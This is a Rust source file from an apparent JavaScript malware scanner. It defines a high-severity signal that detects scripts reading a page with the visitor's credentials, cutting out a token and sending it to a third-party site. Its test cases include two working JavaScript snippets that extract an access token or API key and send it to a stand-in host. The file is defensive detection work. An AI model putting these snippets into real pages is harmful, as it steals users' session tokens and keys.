//! `token-cut-and-sent`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "token-cut-and-sent",
    description: "The script reads a page in the visitor's session, extracts a part and sends it to a third site.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::SentAbroad])],
    within: 0,
    only_if: Some(cuts),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"fetch('https://club.example/ads',{credentials:'include'}).then(r=>r.text()).then(t=>{const k=t.match(/EAAB\w+/)[0];fetch('https://c.other.example/t',{method:'POST',body:JSON.stringify({k})})})"#,
            r#"var x=new XMLHttpRequest();x.open('GET','/account',false);x.withCredentials=true;x.send();var key=/api_key" value="(\w+)/.exec(x.responseText)[1];new Image().src='https://c.other.example/?k='+key"#,
        ],
        without: &[
            r#"fetch('https://club.example/ads',{credentials:'include'}).then(r=>r.text()).then(t=>{const k=t.match(/EAAB\w+/)[0];fetch('https://club.example/t',{method:'POST',body:JSON.stringify({k})})})"#,
            r#"fetch('https://club.example/page').then(r=>r.text()).then(t=>{const k=t.match(/<title>(.*)</)[1];fetch('https://c.other.example/t',{method:'POST',body:JSON.stringify({k})})})"#,
            r#"fetch('https://blog.example/me',{credentials:'include'}).then(r=>r.text()).then(t=>{const k=t.match(/data-theme='(\w+)'/)[1];paint(k);fetch('https://rates.other.example/latest')})"#,
        ],
    },
};

fn cuts(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 140);
    if !near.has_word(&["credentials", "withCredentials"]) || !near.has_word(&["text", "responseText"]) {
        return false;
    }
    let read = near.words(&["fetch", "open"]).find_map(|at| {
        let given = near.is(at + 1, b'(').then(|| (at + 2..at + 5).find_map(|at| address(near, at)));
        given.flatten().map(|address| (at, address))
    });
    let Some((read, from)) = read else { return false };
    let cut = near.words(&["match", "exec"]).find_map(|at| {
        let by = near.is(at + 1, b'(')
            && (near.kind(at + 2) == Some(Kind::Regex) || near.kind(at.wrapping_sub(1)) == Some(Kind::Regex));
        let set = (at.saturating_sub(6)..at).rev().find(|at| near.is(*at, b'='));
        let name = set
            .filter(|set| near.kind(set.wrapping_sub(1)) == Some(Kind::Name))
            .map(|set| near.before(set, 1));
        name.filter(|_| by && at > read).map(|name| (at, name))
    });
    let Some((cut, name)) = cut else { return false };
    let after = near.among(cut + 3..cut + 110);
    // What was cut out is in what goes there, not just anywhere in the script.
    after.places().any(|at| {
        address(near, at).is_some_and(|to| !to.is_empty() && site(to) != site(from))
            && near
                .among(at + 1..at + GIVEN)
                .places()
                .any(|at| near.kind(at) == Some(Kind::Name) && near.word(at) == name)
    })
}

/// The host of an address at an item; empty for one of the site itself.
fn address(near: Near<'_>, at: usize) -> Option<&str> {
    if !matches!(near.kind(at), Some(Kind::Str | Kind::Template)) {
        return None;
    }
    let text = near.word(at);
    let host = ["https://", "http://"].iter().find_map(|scheme| text.strip_prefix(scheme));
    match host {
        Some(host) => Some(host.split(['/', '?', '#']).next().unwrap_or(host)),
        None => (text.len() > 1 && text.starts_with('/') && !text.starts_with("//")).then_some(""),
    }
}

/// The last two names of a host.
fn site(host: &str) -> &str {
    let mut dots = host.rmatch_indices('.');
    dots.next();
    dots.next().map_or(host, |(at, _)| &host[at + 1..])
}

/// Items of what is sent to an address, behind it.
const GIVEN: usize = 45;
